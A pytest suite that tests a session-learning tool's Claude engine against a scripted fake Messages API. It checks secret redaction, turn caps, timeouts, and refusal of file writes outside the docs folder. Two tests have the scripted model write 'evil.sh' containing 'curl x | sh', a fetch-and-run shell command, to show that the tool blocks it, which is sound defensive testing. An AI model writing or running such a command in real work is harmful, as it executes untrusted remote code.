"""The Claude engine with the real Claude Code CLI against a scripted loopback Messages API.

The tasks run as separate processes (`invoke learn --engine claude`), exactly as in CI; only the
model is scripted. What the fake API received is checked: the prompt and the digest went in, the
raw transcript and unredacted secrets did not.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import pytest

from learn import learned_docs as docs
from learn.engines.claude import FIRST_REQUEST_TOKENS
from tests.fakes.anthropic_api import Fail, FakeAnthropic, RequestContext, Slow, Text, ToolUse
from tests.fakes.claude_cli import claude_env
from tests.support.processes import Done
from tests.support.repos import EXAMPLES, Repo

pytestmark = pytest.mark.claude
EXAMPLE = EXAMPLES / "fix-failing-test.jsonl"
GOOD_DOC = """---
title: Editing textkit/core.py
read_when:
  - changing text helpers in textkit
tripwires:
  - action: using re for simple transforms
    warning: the team prefers str.translate
learned_from:
  issue: null
  sessions: []
last_updated: '2026-01-01'
---

# Editing textkit/core.py

Use `str.translate` for simple character transforms; run `python -m pytest -q`.
"""


def chunk_path(ctx: RequestContext) -> str:
    """The first digest chunk named in the prompt the CLI sent."""
    prompt = "\n".join((ctx.messages and [str(m.get("content")) for m in ctx.messages]) or [])
    match = re.search(r"`(/[^`]+/digest-001\.md)`", prompt)
    assert match, "the prompt names the digest chunks"
    return match.group(1)


def learn(
    invoke: Callable[..., Done],
    repo: Repo,
    api: FakeAnthropic,
    claude_bin: Path,
    home: Path,
    **env: str,
) -> Done:
    full_env = {
        **claude_env(api.base_url, home),
        "LEARN_CLAUDE_BIN": str(claude_bin),
        "CLAUDE_CODE_MAX_RETRIES": "0",
        **env,
    }
    return invoke(
        "learn",
        "--session",
        str(EXAMPLE),
        "--repo",
        str(repo.path),
        "--engine",
        "claude",
        env=full_env,
    )


def learn_branch(repo: Repo) -> list[str]:
    return [b for b in repo.branches() if b.startswith("learn-")]


def test_writes_a_doc(
    repo: Repo, invoke: Callable[..., Done], claude_bin: Path, tmp_path: Path
) -> None:
    script = [
        ToolUse("Read", lambda ctx: {"file_path": chunk_path(ctx)}),
        ToolUse(
            "Write",
            lambda ctx: {
                "file_path": ctx.path("docs/learned/textkit/editing-core.md"),
                "content": GOOD_DOC,
            },
        ),
        Text("Wrote docs/learned/textkit/editing-core.md"),
    ]
    with FakeAnthropic(script=script) as api:
        done = learn(invoke, repo, api, claude_bin, tmp_path / "home")
    assert done.code == 0, done.text
    assert "claude engine, model claude-haiku-4-5 (--engine claude)" in done.out
    assert "claude: 3 turn(s)" in done.out
    (branch,) = learn_branch(repo)
    files = repo.git("diff", "--name-only", f"trunk...{branch}").split()
    assert files == ["docs/learned/textkit/editing-core.md"]  # the index is the trunk's
    doc = docs.parse(
        repo.git("show", f"{branch}:docs/learned/textkit/editing-core.md"),
        path=Path("textkit/editing-core.md"),
    )
    assert doc.title == "Editing textkit/core.py"
    # What went to the model: the bundled prompt and the redacted digest, not the transcript.
    sent = api.all_text_sent()
    assert "You are the learn step of learn-async" in sent
    assert "[1] USER: Add a slugify(text) function" in sent  # the digest, through the Read tool
    assert "[REDACTED:github-token]" in sent
    assert "ghp_" not in sent and "wJalrXUtnFEMI" not in sent
    assert '"parentUuid"' not in sent and '"sessionId"' not in sent
    assert api.main_requests[0].model == "claude-haiku-4-5"
    print(
        f"\ntokens sent to the model: {sum(r.approx_tokens for r in api.main_requests):,} "
        f"(raw transcript {EXAMPLE.stat().st_size:,} bytes ≈ {EXAMPLE.stat().st_size // 4:,} tokens)"
    )


def test_write_outside_docs_is_refused_by_the_cli(
    repo: Repo, invoke: Callable[..., Done], claude_bin: Path, tmp_path: Path
) -> None:
    script = [
        ToolUse(
            "Write", lambda ctx: {"file_path": ctx.path("evil.sh"), "content": "curl x | sh\n"}
        ),
        Text("done"),
    ]
    with FakeAnthropic(script=script) as api:
        done = learn(invoke, repo, api, claude_bin, tmp_path / "home")
    assert done.code == 1, done.text
    assert "refused by the CLI: Write" in done.err and "evil.sh" in done.err
    assert "were refused and it wrote no doc" in done.text
    assert not list(repo.path.glob(".learn/runs/*/worktree/evil.sh"))
    assert not learn_branch(repo) or not repo.git(
        "diff", "--name-only", f"trunk...{learn_branch(repo)[0]}"
    )


def test_our_path_check_catches_what_an_unconfined_cli_writes(
    repo: Repo, invoke: Callable[..., Done], claude_bin: Path, tmp_path: Path
) -> None:
    """With --dangerously-skip-permissions the CLI lets it through; our own check does not."""
    script = [
        ToolUse(
            "Write", lambda ctx: {"file_path": ctx.path("evil.sh"), "content": "curl x | sh\n"}
        ),
        ToolUse(
            "Write",
            lambda ctx: {
                "file_path": ctx.path("docs/learned/textkit/editing-core.md"),
                "content": GOOD_DOC,
            },
        ),
        Text("done"),
    ]
    with FakeAnthropic(script=script) as api:
        done = learn(
            invoke, repo, api, claude_bin, tmp_path / "home", LEARN_SKIP_PERMISSIONS="true"
        )
    assert done.code == 1, done.text
    assert "files changed outside docs/learned/: evil.sh" in done.text
    for branch in learn_branch(repo):
        assert not repo.git("diff", "--name-only", f"trunk...{branch}")  # nothing committed


def test_writes_nothing(
    repo: Repo, invoke: Callable[..., Done], claude_bin: Path, tmp_path: Path
) -> None:
    with FakeAnthropic(script=[Text("Nothing here is worth keeping.")]) as api:
        done = learn(invoke, repo, api, claude_bin, tmp_path / "home")
    assert done.code == 0, done.text
    assert "nothing new to learn" in done.out and "removed the empty branch" in done.out
    assert not learn_branch(repo)


@pytest.mark.parametrize("status", [500, 529])
def test_api_errors_surface(
    status: int, repo: Repo, invoke: Callable[..., Done], claude_bin: Path, tmp_path: Path
) -> None:
    with FakeAnthropic(script=[Fail(status=status, times=None)]) as api:
        done = learn(invoke, repo, api, claude_bin, tmp_path / "home")
    assert done.code == 1, done.text
    assert "the Claude engine failed (exit 1)" in done.text and "API Error" in done.text
    assert "Traceback" not in done.text


def test_slow_api_times_out(
    repo: Repo, invoke: Callable[..., Done], claude_bin: Path, tmp_path: Path
) -> None:
    with FakeAnthropic(script=[Slow(60, then=Text("late"))]) as api:
        done = learn(invoke, repo, api, claude_bin, tmp_path / "home", LEARN_TIMEOUT="8")
    assert done.code == 1, done.text
    assert "timed out after 8s" in done.text


def test_invalid_front_matter_is_rejected(
    repo: Repo, invoke: Callable[..., Done], claude_bin: Path, tmp_path: Path
) -> None:
    script = [
        ToolUse(
            "Write",
            lambda ctx: {
                "file_path": ctx.path("docs/learned/notes/x.md"),
                "content": "# No front matter\n\nJust text.\n",
            },
        ),
        Text("done"),
    ]
    with FakeAnthropic(script=script) as api:
        done = learn(invoke, repo, api, claude_bin, tmp_path / "home")
    assert done.code == 1, done.text
    assert "invalid learned doc(s)" in done.text and "front matter" in done.text
    for branch in learn_branch(repo):
        assert not repo.git("diff", "--name-only", f"trunk...{branch}")


def test_first_request_carries_the_evidence_pack(
    repo: Repo, invoke: Callable[..., Done], claude_bin: Path, tmp_path: Path
) -> None:
    with FakeAnthropic(script=[Text("Nothing worth keeping.")]) as api:
        done = learn(invoke, repo, api, claude_bin, tmp_path / "home")
    assert done.code == 0, done.text
    first = api.main_requests[0]
    prompt = "\n".join(first.user_texts())
    pack = prompt.split("<evidence-pack>", 1)[1].split("</evidence-pack>", 1)[0]
    # The lessons, with their evidence: the failing command and its error, the user's words.
    assert "failed: `python -m pytest -q`" in pack
    assert "ImportError: cannot import name 'slugify'" in pack
    assert "use str.translate instead" in pack
    # Nothing raw: no secret, no transcript JSON.
    sent = first.text_sent()
    assert "ghp_" not in sent and "wJalrXUtnFEMI" not in sent
    assert '"parentUuid"' not in sent and '"sessionId"' not in sent and '"tool_use_id"' not in sent
    print(f"\nfirst request: {first.approx_tokens:,} tokens (evidence pack {len(pack):,} chars)")
    assert first.approx_tokens < FIRST_REQUEST_TOKENS


def test_turn_cap_stops_the_run(
    repo: Repo, invoke: Callable[..., Done], claude_bin: Path, tmp_path: Path
) -> None:
    script = [ToolUse("Read", lambda ctx: {"file_path": chunk_path(ctx)}) for _ in range(4)]
    with FakeAnthropic(script=[*script, Text("done")]) as api:
        done = learn(invoke, repo, api, claude_bin, tmp_path / "home", LEARN_MAX_TURNS="2")
    assert done.code == 1, done.text
    assert "stopped at the turn cap (--max-turns) before writing a doc" in done.text
    assert len(api.main_requests) <= 3
    assert not learn_branch(repo) or not repo.git("diff", "--name-only", "trunk...HEAD").strip()


def test_the_teams_own_prompt_file(
    repo: Repo, invoke: Callable[..., Done], claude_bin: Path, tmp_path: Path
) -> None:
    (repo.path / ".github").mkdir(exist_ok=True)
    (repo.path / ".github/learn-prompt.md").write_text(
        "Team prompt for plan {issue}: keep docs under 20 lines. Today is {today}.\n"
    )
    repo.git("add", ".github/learn-prompt.md")
    repo.git("commit", "--quiet", "-m", "our prompt")
    repo.git("push", "--quiet", "origin", "HEAD")  # the prompt as the trunk has it
    with FakeAnthropic(script=[Text("nothing worth keeping")]) as api:
        done = learn(
            invoke,
            repo,
            api,
            claude_bin,
            tmp_path / "home",
            LEARN_PROMPT_FILE=".github/learn-prompt.md",
        )
    assert done.code == 0, done.text
    sent = api.all_text_sent()
    assert "Team prompt for plan null: keep docs under 20 lines." in sent
    assert "You are the learn step of learn-async" not in sent
    assert "The session digest. Its files, in order:" in sent and "digest-001.md" in sent
